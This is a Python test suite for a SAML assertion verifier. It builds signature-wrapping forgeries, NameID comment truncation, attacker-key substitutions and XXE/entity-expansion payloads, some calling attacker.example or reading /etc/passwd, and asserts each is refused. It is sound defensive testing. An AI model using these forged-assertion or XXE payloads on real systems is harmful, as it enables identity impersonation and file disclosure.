"""Attacks on SAML 2.0 assertion verification (issue 14 item 4): every one is refused with a documented
code, and none raises. Each case names its source.

The assertions are built and signed here with a key generated in the test (signxml's XMLSigner); the
attacks then rearrange or replace what was signed, as the cited papers and advisories describe.
"""

from __future__ import annotations

import copy
import random
import time
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric import rsa
from lxml import etree

from attest import ERROR_CODES, TrustStoreError, VerifyContext
from attest.saml import verify_saml
from attest.trust import SamlIssuer, TrustStore

from .support.saml import (
    ASSERTION_ID,
    AUDIENCE,
    DS_NS,
    ISSUER,
    PATIENT,
    PRACTITIONER,
    SAML_NS,
    assertion_xml,
    attacker_cert,
    attributes,
    b64,
    certificate,
    instant,
    issuer_cert,
    pem,
    resign,
    rsa_key,
    sign,
    signed_assertion,
    trust_store,
)
from .support.tokens import NOW

PROFILE = "xua-saml-1.0"
#: the identity an attacker wants to be (a valid F-number of the data model's examples, RULES.md d.7)
VICTIM = "03117000205"
EVIL_ID = "_evil"
SAMLP_NS = "urn:oasis:names:tc:SAML:2.0:protocol"
TOKEN_LEVEL = frozenset(c for c, row in ERROR_CODES.items() if row.stage == "token")


def _verify(data: Any, trust: TrustStore | None = None, **ctx: Any) -> Any:
    context = VerifyContext(now=NOW + 10, patient_id=PATIENT, **ctx)
    return verify_saml(data, trust or trust_store(), PROFILE, context)


def refused(data: Any, *codes: str, trust: TrustStore | None = None, token_level: bool = True) -> Any:
    """``data`` is refused with one of ``codes`` (all documented), without raising."""
    d = _verify(data, trust)
    assert not d.permitted
    assert {f.code for f in d.errors} <= set(ERROR_CODES), d.errors
    assert {f.code for f in d.errors} & set(codes), d.errors
    if token_level:
        assert d.attestation is None and len(d.errors) == 1 and d.errors[0].code in TOKEN_LEVEL, d.errors
    return d


def _xml(el: Any) -> bytes:
    out: bytes = etree.tostring(el)
    return out


def _signed() -> Any:
    """The original, validly signed assertion (an element; the attacks copy and rearrange it)."""
    return sign(assertion_xml())


def _evil(assertion_id: str) -> Any:
    """The assertion the attacker wants accepted: unsigned, naming the victim."""
    return etree.fromstring(assertion_xml(name_id=VICTIM, assertion_id=assertion_id, placeholder=False))


def _signature(el: Any) -> Any:
    return el.find(f"{{{DS_NS}}}Signature")


def _advice(parent: Any, child: Any) -> None:
    """Put ``child`` into a saml:Advice of ``parent`` (Advice may legitimately hold assertions)."""
    advice = etree.SubElement(parent, f"{{{SAML_NS}}}Advice")
    advice.append(child)


def test_the_original_is_accepted() -> None:
    d = _verify(_xml(_signed()))
    assert d.permitted, d.errors
    assert d.attestation["practitioner"]["identifier"]["id"] == PRACTITIONER


# --- XML Signature Wrapping ------------------------------------------------------------------------------
# Source: J. Somorovsky, A. Mayer, J. Schwenk, M. Kampmann, M. Jensen, "On Breaking SAML: Be Whoever You
# Want to Be", USENIX Security 2012, section 5 (XSW1-XSW8; the naming follows the SAML Raider tool). XSW1 and
# XSW2 wrap a signed Response; XSW3-XSW8 wrap a signed Assertion inside a Response. Our input is one
# Assertion, so each is given both as in the paper (a Response: refused as not an assertion) and adapted
# with the attacker's assertion as the root, keeping the original's ID (duplicate IDs) or not (the signature
# then covers something other than the root).

def _response(*children: Any, response_id: str = "_resp") -> Any:
    resp = etree.fromstring(
        f'<samlp:Response xmlns:samlp="{SAMLP_NS}" xmlns:saml="{SAML_NS}" ID="{response_id}" Version="2.0" '
        f'IssueInstant="{instant(NOW)}"><saml:Issuer>{ISSUER}</saml:Issuer>'
        '<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>'
        '</samlp:Response>')
    for c in children:
        resp.append(c)
    return resp


def _signed_response() -> Any:
    resp = _response(_signed())
    resp.insert(1, etree.fromstring(f'<ds:Signature xmlns:ds="{DS_NS}" Id="placeholder"/>'))
    return sign(resp)


def xsw1() -> bytes:
    # XSW1: a new (evil) Response is the root; the original signed Response is copied into its Signature
    evil = _response(_evil(EVIL_ID), response_id="_evil-resp")
    original = _signed_response()
    sig = copy.deepcopy(_signature(original))
    sig.append(original)
    evil.insert(1, sig)
    return _xml(evil)


def xsw2() -> bytes:
    # XSW2: as XSW1, the original Response placed before the signature (a detached signature)
    evil = _response(_evil(EVIL_ID), response_id="_evil-resp")
    original = _signed_response()
    sig = copy.deepcopy(_signature(original))
    evil.insert(1, original)
    evil.insert(2, sig)
    return _xml(evil)


def xsw3_response() -> bytes:
    # XSW3 as in the paper: an evil assertion with the original's ID before the original, in a Response
    return _xml(_response(_evil(ASSERTION_ID), _signed()))


def xsw3() -> bytes:
    # XSW3 adapted: the evil assertion (the original's ID) is the root; the original follows inside it
    evil = _evil(ASSERTION_ID)
    _advice(evil, _signed())
    return _xml(evil)


def xsw4() -> bytes:
    # XSW4: the evil assertion wraps the original (the original a child of the evil one)
    evil = _evil(ASSERTION_ID)
    evil.append(_signed())
    return _xml(evil)


def xsw4_new_id() -> bytes:
    # XSW4 with a fresh root ID: the original's signature now sits below the root
    evil = _evil(EVIL_ID)
    evil.append(_signed())
    return _xml(evil)


def xsw5() -> bytes:
    # XSW5: the evil assertion carries the original's signature; the original (signature removed) is
    # appended to the document (here: inside the root, as it must have one)
    original = _signed()
    sig = _signature(original)
    original.remove(sig)
    evil = _evil(ASSERTION_ID)
    evil.insert(1, sig)
    _advice(evil, original)
    return _xml(evil)


def xsw6() -> bytes:
    # XSW6: the evil assertion carries the original's signature, and the original assertion (signature
    # removed) is put inside that signature
    original = _signed()
    sig = _signature(original)
    original.remove(sig)
    sig.append(original)
    evil = _evil(ASSERTION_ID)
    evil.insert(1, sig)
    return _xml(evil)


def xsw7() -> bytes:
    # XSW7: an extension element (the paper uses samlp:Extensions, which schema validation lets through)
    # holding the original; the evil assertion next to it, with the signature
    original = _signed()
    sig = copy.deepcopy(_signature(original))
    evil = _evil(ASSERTION_ID)
    ext = etree.SubElement(evil, "{urn:example:ext}Extensions")
    ext.append(original)
    evil.insert(1, sig)
    return _xml(evil)


def xsw8() -> bytes:
    # XSW8: the evil assertion carries the signature, whose ds:Object holds the original (signature removed)
    original = _signed()
    sig = _signature(original)
    original.remove(sig)
    obj = etree.SubElement(sig, f"{{{DS_NS}}}Object")
    obj.append(original)
    evil = _evil(ASSERTION_ID)
    evil.insert(1, sig)
    return _xml(evil)


def xsw_id_attribute() -> bytes:
    # Variant of XSW3 against ID lookup: the nested original carries its ID as "Id" (signxml looks up "Id"
    # before "ID" by default), so a check for duplicate "ID" attributes alone would miss it
    original = _signed()
    del original.attrib["ID"]
    original.set("Id", ASSERTION_ID)
    evil = _evil(ASSERTION_ID)
    evil.insert(1, copy.deepcopy(_signature(original)))
    _advice(evil, original)
    return _xml(evil)


def xsw_xml_id() -> bytes:
    # The same with xml:id on an element of the evil assertion
    original = _signed()
    original[2].set("{http://www.w3.org/XML/1998/namespace}id", ASSERTION_ID)
    return _xml(original)


XSW = {"XSW1": (xsw1, "invalid_saml"), "XSW2": (xsw2, "invalid_saml"),
       "XSW3-response": (xsw3_response, "invalid_saml"), "XSW3": (xsw3, "invalid_signature"),
       "XSW4": (xsw4, "invalid_signature"), "XSW4-new-id": (xsw4_new_id, "invalid_signature"),
       "XSW5": (xsw5, "invalid_signature"), "XSW6": (xsw6, "invalid_signature"),
       "XSW7": (xsw7, "invalid_signature"), "XSW8": (xsw8, "invalid_signature"),
       "XSW-Id-attribute": (xsw_id_attribute, "invalid_signature"),
       "XSW-xml-id": (xsw_xml_id, "invalid_signature")}


@pytest.mark.parametrize("name", list(XSW))
def test_signature_wrapping(name: str) -> None:
    build, code = XSW[name]
    refused(build(), code)


# --- comments inside NameID ------------------------------------------------------------------------------
# Source: Duo Labs, "Duo Finds SAML Vulnerabilities Affecting Multiple Implementations" (2018-02-27):
# CVE-2017-11427 (OneLogin python-saml), CVE-2017-11428 (ruby-saml), CVE-2017-11429 (saml2-js),
# CVE-2017-11430 (OmniAuth-SAML), CVE-2018-0489 (Shibboleth). Exclusive c14n drops comments, so a comment
# added after signing keeps the signature valid; a reader that takes the text before the comment reads a
# truncated identity.

def _with_comment(name_id_signed: str, before: str, after: str) -> bytes:
    el = sign(assertion_xml(name_id=name_id_signed))
    name_id = el.find(f"{{{SAML_NS}}}Subject/{{{SAML_NS}}}NameID")
    name_id.text = before
    comment = etree.Comment("")
    comment.tail = after
    name_id.append(comment)
    return _xml(el)


def test_comment_in_name_id_does_not_truncate_the_identity() -> None:
    # signed for the attacker's longer identifier; the naive reader would see the victim's F-number
    data = _with_comment(PRACTITIONER + "1", PRACTITIONER, "1")
    assert etree.fromstring(data).find(f"{{{SAML_NS}}}Subject/{{{SAML_NS}}}NameID").text == PRACTITIONER
    d = _verify(data, authenticated_pid=PRACTITIONER)
    assert not d.permitted
    assert d.attestation["practitioner"]["identifier"]["id"] == PRACTITIONER + "1"  # the full signed text
    assert "invalid_person_identifier" in d.codes and "practitioner_mismatch" in d.codes
    assert not set(d.codes) & TOKEN_LEVEL  # the signature verified: the text is read in full


def test_comment_in_name_id_keeps_the_signed_value() -> None:
    d = _verify(_with_comment(PRACTITIONER, PRACTITIONER[:5], PRACTITIONER[5:]))
    assert d.permitted, d.errors
    assert d.attestation["practitioner"]["identifier"]["id"] == PRACTITIONER


def test_comment_in_an_attribute_value_is_not_a_truncation() -> None:
    # the same class of attack on an attribute (the HPR number)
    el = sign(assertion_xml())
    for av in el.iter(f"{{{SAML_NS}}}AttributeValue"):
        if av.text == "9144900":
            av.text = "914"
            comment = etree.Comment("x")
            comment.tail = "4900"
            av.append(comment)
    d = _verify(_xml(el))
    assert d.permitted, d.errors
    assert d.attestation["practitioner"]["hpr_nr"]["id"] == "9144900"


# --- unsigned, and signatures over something else ------------------------------------------------------
# Source: SAML 2.0 core (saml-core-2.0-os) 5.4.2: "Signatures MUST contain a single <ds:Reference> containing a
# same-document reference to the ID attribute value of the root element of the assertion"; the
# verification-bypass classes of "On Breaking SAML" section 4 (signature exclusion) and OWASP SAML Security
# Cheat Sheet ("Validate Signature ... is the one expected").

def test_unsigned_assertion() -> None:
    refused(assertion_xml(placeholder=False), "invalid_signature")


def test_signature_removed() -> None:
    el = _signed()
    el.remove(_signature(el))
    refused(_xml(el), "invalid_signature")


def test_reference_to_a_child_element() -> None:
    xml = etree.fromstring(assertion_xml())
    xml.find(f"{{{SAML_NS}}}Subject").set("ID", "_subject")
    refused(_xml(sign(xml, reference_uri="#_subject")), "invalid_signature")


def test_reference_to_the_whole_document() -> None:
    # URI="" covers the whole document, not the assertion by its ID (genuinely signed after the edit)
    el = _signed()
    el.find(f".//{{{DS_NS}}}Reference").set("URI", "")
    refused(_xml(resign(el)), "invalid_signature")


def test_external_reference_uri() -> None:
    # an external Reference (a detached signature over a URL): nothing is ever fetched
    el = _signed()
    el.find(f".//{{{DS_NS}}}Reference").set("URI", "http://attacker.example/assertion.xml")
    refused(_xml(resign(el)), "invalid_signature")


def test_duplicate_ids() -> None:
    el = _signed()
    extra = etree.SubElement(el, f"{{{SAML_NS}}}Advice")
    extra.set("ID", ASSERTION_ID)
    refused(_xml(el), "invalid_signature")


def test_two_signatures() -> None:
    el = _signed()
    el.append(copy.deepcopy(_signature(el)))
    refused(_xml(el), "invalid_signature")


@pytest.mark.parametrize("algorithm", ["http://www.w3.org/TR/1999/REC-xslt-19991116",
                                       "http://www.w3.org/TR/1999/REC-xpath-19991116",
                                       "http://www.w3.org/2000/09/xmldsig#base64"])
def test_extra_transforms(algorithm: str) -> None:
    # Source: XML Signature Best Practices (W3C Note 2013) 2.1.1-2.1.3 (XSLT, XPath transforms as attack
    # surface). signxml skips transforms it does not know, so the digest still matches: our allow-list
    # (enveloped-signature, then exclusive c14n) is what refuses it. Genuinely signed after the edit.
    el = _signed()
    transforms = el.find(f".//{{{DS_NS}}}Transforms")
    etree.SubElement(transforms, f"{{{DS_NS}}}Transform", Algorithm=algorithm)
    refused(_xml(resign(el)), "invalid_signature")


def test_transforms_without_enveloped_signature() -> None:
    el = _signed()
    transforms = el.find(f".//{{{DS_NS}}}Transforms")
    transforms.remove(transforms[0])
    refused(_xml(resign(el)), "invalid_signature")


def test_signed_content_changed() -> None:
    el = _signed()
    el.find(f"{{{SAML_NS}}}Subject/{{{SAML_NS}}}NameID").text = VICTIM
    d = refused(_xml(el), "invalid_signature")
    assert "digest" in d.errors[0].message


def test_assertion_inside_a_soap_envelope() -> None:
    env = etree.fromstring('<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Header/></s:Envelope>')
    env[0].append(_signed())
    refused(_xml(env), "invalid_saml")


# --- the key: KeyInfo is not trusted ---------------------------------------------------------------------
# Source: OWASP SAML Security Cheat Sheet ("do not trust the key in KeyInfo"); signxml's documentation
# ("Establish trust": without x509_cert any certificate chaining to a system CA is accepted); CVE-2021-21239
# (pysaml2: signatures accepted with any key in KeyInfo when xmlsec's default verification was used).

def test_key_info_certificate_is_not_the_pinned_one() -> None:
    d = refused(_xml(sign(assertion_xml(), key=rsa_key(2048, "attacker"), cert=attacker_cert())),
                "invalid_signature")
    assert "pinned" in d.errors[0].message


def test_attacker_key_with_the_pinned_certificate_in_key_info() -> None:
    refused(_xml(sign(assertion_xml(), key=rsa_key(2048, "attacker"), cert=issuer_cert())), "invalid_signature")


def test_attacker_key_without_key_info() -> None:
    refused(_xml(sign(assertion_xml(), key=rsa_key(2048, "attacker"), include_cert=False)), "invalid_signature")


def test_valid_signature_without_key_info_uses_the_pinned_certificate() -> None:
    assert _verify(_xml(sign(assertion_xml(), include_cert=False))).permitted


def test_key_value_in_key_info() -> None:
    el = _signed()
    key_info = el.find(f".//{{{DS_NS}}}KeyInfo")
    etree.SubElement(key_info, f"{{{DS_NS}}}KeyValue")
    refused(_xml(el), "invalid_signature")


def test_retrieval_method_in_key_info() -> None:
    # an external reference for the key: never followed
    el = _signed()
    key_info = el.find(f".//{{{DS_NS}}}KeyInfo")
    etree.SubElement(key_info, f"{{{DS_NS}}}RetrievalMethod", URI="http://attacker.example/key.cer")
    refused(_xml(el), "invalid_signature")


def test_two_certificates_in_key_info() -> None:
    el = _signed()
    x509_data = el.find(f".//{{{DS_NS}}}X509Data")
    extra = etree.SubElement(x509_data, f"{{{DS_NS}}}X509Certificate")
    extra.text = "".join(pem(attacker_cert()).splitlines()[1:-1])
    refused(_xml(el), "invalid_signature")


def test_certificate_expired_at_the_evaluation_time() -> None:
    old = certificate(rsa_key(), not_before=NOW - 2 * 86400 * 365, not_after=NOW - 86400)
    d = refused(_xml(sign(assertion_xml(), cert=old)), "unknown_key", trust=trust_store(old))
    assert "valid" in d.errors[0].message


# --- enveloping signature --------------------------------------------------------------------------------
# Source: SAML 2.0 core 5.4.1 ("SAML assertions ... MUST use enveloped signatures"); signxml's documentation
# on SignatureConfiguration.location.

def test_enveloping_signature() -> None:
    from signxml import SignatureConstructionMethod

    el = sign(assertion_xml(placeholder=False), method=SignatureConstructionMethod.enveloping)
    assert el.tag == f"{{{DS_NS}}}Signature"
    refused(_xml(el), "invalid_signature")


# --- DTDs, entities, XXE ---------------------------------------------------------------------------------
# Sources: OWASP XML External Entity Prevention Cheat Sheet; CWE-611 (XXE), CWE-776 (billion laughs, "XML
# Entity Expansion"); Python's documentation "XML vulnerabilities" (defusedxml): billion laughs, quadratic
# blowup, external entity expansion, DTD retrieval.

def _doctype(doctype: str, name_id: str = PRACTITIONER) -> bytes:
    body = signed_assertion().replace(f"<saml:NameID>{PRACTITIONER}<".encode(), f"<saml:NameID>{name_id}<".encode())
    return doctype.encode() + body


DTD_ATTACKS = {
    "xxe-file": _doctype('<!DOCTYPE saml:Assertion [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
    "xxe-http": _doctype('<!DOCTYPE saml:Assertion [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>', "&xxe;"),
    "xxe-parameter-entity": _doctype('<!DOCTYPE saml:Assertion [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>'),
    "billion-laughs": _doctype(
        '<!DOCTYPE saml:Assertion [<!ENTITY lol "lol">'
        + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
        + "]>", "&lol9;"),
    "quadratic-blowup": _doctype('<!DOCTYPE saml:Assertion [<!ENTITY a "' + "x" * 20000 + '">]>', "&a;" * 100),
    "internal-dtd": _doctype('<!DOCTYPE saml:Assertion [<!ELEMENT saml:Assertion ANY>]>'),
    "external-dtd": _doctype('<!DOCTYPE saml:Assertion SYSTEM "http://attacker.example/saml.dtd">'),
    "doctype-only": _doctype("<!DOCTYPE saml:Assertion>"),
    "doctype-after-declaration": b'<?xml version="1.0" encoding="UTF-8"?>\n' + _doctype("<!DOCTYPE x>"),
}


@pytest.mark.parametrize("name", list(DTD_ATTACKS))
def test_dtd_attacks(name: str) -> None:
    data = DTD_ATTACKS[name]
    start = time.perf_counter()
    d = refused(data, "invalid_saml")
    assert time.perf_counter() - start < 1.0
    assert "passwd" not in str(d.to_dict()) and "root:" not in str(d.to_dict())


def test_dtd_in_base64_input() -> None:
    refused(b64(DTD_ATTACKS["xxe-file"]), "invalid_saml")


def test_dtd_in_utf16_is_not_let_through() -> None:
    # a byte scan for "<!DOCTYPE" must not be dodged by another encoding
    text = '<?xml version="1.0" encoding="UTF-16"?>' + DTD_ATTACKS["xxe-file"].decode()
    refused(text.encode("utf-16"), "invalid_saml")
    refused(text.encode("utf-16-le"), "invalid_saml")


def test_declared_latin1_encoding() -> None:
    refused(b'<?xml version="1.0" encoding="ISO-8859-1"?>' + signed_assertion(), "invalid_saml")


def test_processing_instruction() -> None:
    refused(b'<?xml-stylesheet href="http://attacker.example/x.xsl"?>' + signed_assertion(), "invalid_saml")


def test_xxe_inside_an_hl7_attribute_value() -> None:
    # the XML inside an attribute value is parsed with the same hardening (the signature is valid here)
    role = ('<saml:Attribute Name="urn:oasis:names:tc:xspa:1.0:subject:role"><saml:AttributeValue>'
            '&lt;!DOCTYPE r [&lt;!ENTITY x SYSTEM "file:///etc/passwd"&gt;]&gt;&lt;Role xmlns="urn:hl7-org:v3" '
            'code="&amp;x;" codeSystem="urn:oid:2.16.578.1.12.4.1.1.9060"/&gt;</saml:AttributeValue></saml:Attribute>')
    d = refused(signed_assertion(attrs=attributes(role=role)), "invalid_field", token_level=False)
    assert any(f.code == "invalid_field" and "role" in f.path for f in d.errors)
    assert "passwd" not in str(d.attestation)


def test_billion_laughs_inside_an_hl7_attribute_value() -> None:
    lol = "".join(f"&lt;!ENTITY l{i} \"{('&amp;l' + str(i - 1) + ';') * 10}\"&gt;" for i in range(1, 9))
    role = ('<saml:Attribute Name="urn:oasis:names:tc:xspa:1.0:subject:role"><saml:AttributeValue>'
            f'&lt;!DOCTYPE r [&lt;!ENTITY l0 "lol"&gt;{lol}]&gt;&lt;Role code="&amp;l8;"/&gt;'
            '</saml:AttributeValue></saml:Attribute>')
    refused(signed_assertion(attrs=attributes(role=role)), "invalid_field", token_level=False)


def test_xinclude_is_never_processed() -> None:
    # Source: OWASP XXE Prevention Cheat Sheet (XInclude). The element is read as XML where text is
    # expected, so the attribute is refused, and nothing is included
    subject_id = ('<saml:Attribute Name="urn:oasis:names:tc:xspa:1.0:subject:subject-id"><saml:AttributeValue>'
                  '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
                  '</saml:AttributeValue></saml:Attribute>')
    d = refused(signed_assertion(attrs=attributes(subject_id=subject_id)), "invalid_field", token_level=False)
    assert "root:" not in str(d.to_dict())


# --- huge documents --------------------------------------------------------------------------------------
# Source: CWE-400 / CWE-770 (resource exhaustion); OWASP XML Security Cheat Sheet ("Limit the size ...,
# the depth ..."); lxml's huge_tree option (off here).

def test_over_the_byte_cap() -> None:
    big = ('<saml:Attribute Name="urn:example:pad"><saml:AttributeValue>' + "x" * 70000
           + "</saml:AttributeValue></saml:Attribute>")
    refused(assertion_xml(attrs={**attributes(), "pad": big}), "invalid_saml")


def test_megabytes_are_refused_before_parsing() -> None:
    data = b"<saml:Assertion>" + b"<a>" * 5_000_000
    start = time.perf_counter()
    refused(data, "invalid_saml")
    refused(data.decode(), "invalid_saml")
    refused(b64(data), "invalid_saml")
    assert time.perf_counter() - start < 2.0


def test_too_deep() -> None:
    deep = ('<saml:Attribute Name="urn:example:deep"><saml:AttributeValue>' + "<x>" * 200 + "</x>" * 200
            + "</saml:AttributeValue></saml:Attribute>")
    refused(signed_assertion(attrs={**attributes(), "deep": deep}), "invalid_saml")


def test_too_many_elements() -> None:
    many = ('<saml:Attribute Name="urn:example:many"><saml:AttributeValue>' + "<x/>" * 2500
            + "</saml:AttributeValue></saml:Attribute>")
    refused(signed_assertion(attrs={**attributes(), "many": many}), "invalid_saml")


def test_huge_hl7_attribute_value() -> None:
    role = ('<saml:Attribute Name="urn:oasis:names:tc:xspa:1.0:subject:role"><saml:AttributeValue>&lt;Role code="LE" '
            f'displayName="{"x" * 5000}"/&gt;</saml:AttributeValue></saml:Attribute>')
    refused(signed_assertion(attrs=attributes(role=role)), "invalid_field", token_level=False)


# --- weak algorithms and keys ----------------------------------------------------------------------------
# Sources: NIST SP 800-131A Rev. 2 (SHA-1 signatures disallowed; RSA < 2048 bits disallowed); XML Signature
# Best Practices (W3C Working Group Note, 2013) section 2.4; signxml's defaults (SHA-1 refused).

def test_sha1_signature_method() -> None:
    refused(_xml(sign(assertion_xml(), signature_algorithm="rsa-sha1")), "unsupported_algorithm")


def test_sha1_digest() -> None:
    refused(_xml(sign(assertion_xml(), digest_algorithm="sha1")), "unsupported_algorithm")


def test_sha1_everywhere() -> None:
    refused(_xml(sign(assertion_xml(), signature_algorithm="rsa-sha1", digest_algorithm="sha1")),
            "unsupported_algorithm")


def test_hmac_signature_method() -> None:
    el = _signed()
    el.find(f".//{{{DS_NS}}}SignatureMethod").set("Algorithm", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256")
    refused(_xml(el), "unsupported_algorithm")


@pytest.mark.parametrize("c14n", ["http://www.w3.org/TR/2001/REC-xml-c14n-20010315",
                                  "http://www.w3.org/2001/10/xml-exc-c14n#WithComments",
                                  "http://www.w3.org/2006/12/xml-c14n11"])
def test_other_canonicalization(c14n: str) -> None:
    refused(_xml(sign(assertion_xml(), c14n=c14n)), "unsupported_algorithm", "invalid_signature")


def test_rsa_1024_signature() -> None:
    weak = rsa_key(1024, "weak")
    refused(_xml(sign(assertion_xml(), key=weak, cert=certificate(weak))), "invalid_signature")


def test_rsa_1024_certificate_is_refused_by_the_trust_store() -> None:
    with pytest.raises(TrustStoreError, match="at least 2048"):
        trust_store(certificate(rsa_key(1024, "weak")))


def test_rsa_1024_pinned_outside_the_loader() -> None:
    # a SamlIssuer built in code, past the loader's check: the verifier refuses the weak key itself
    weak = rsa_key(1024, "weak")
    cert = certificate(weak)
    store = TrustStore(issuers={}, saml_issuers={ISSUER: SamlIssuer(ISSUER, "weak", (cert,), AUDIENCE)})
    refused(_xml(sign(assertion_xml(), key=weak, cert=cert)), "unsupported_algorithm", trust=store)


# --- none raises, whatever the bytes ---------------------------------------------------------------------

def test_random_mutations_never_raise() -> None:
    original = signed_assertion()
    rng = random.Random(14)
    for _ in range(150):
        data = bytearray(original)
        for _ in range(rng.randint(1, 4)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        d = _verify(bytes(data))
        assert {f.code for f in d.errors} <= set(ERROR_CODES)


@pytest.mark.parametrize("data", ["", " ", "<", "AAAA", "====", "\ud800", b"\xff\xfe<\x00", b"<a/>", "<a>&x;</a>",
                                  b"\xef\xbb\xbf", "PHNhbWw6QXNzZXJ0aW9uLz4="])
def test_garbage(data: Any) -> None:
    refused(data, "invalid_saml")


def test_wrong_argument_types_raise_type_error() -> None:
    with pytest.raises(TypeError):
        verify_saml(123, trust_store())  # type: ignore[arg-type]
    with pytest.raises(TypeError):
        verify_saml(signed_assertion(), {})  # type: ignore[arg-type]


def test_rsa_keys_used_here_are_what_they_claim() -> None:
    assert isinstance(rsa_key(1024, "weak"), rsa.RSAPrivateKey) and rsa_key(1024, "weak").key_size == 1024
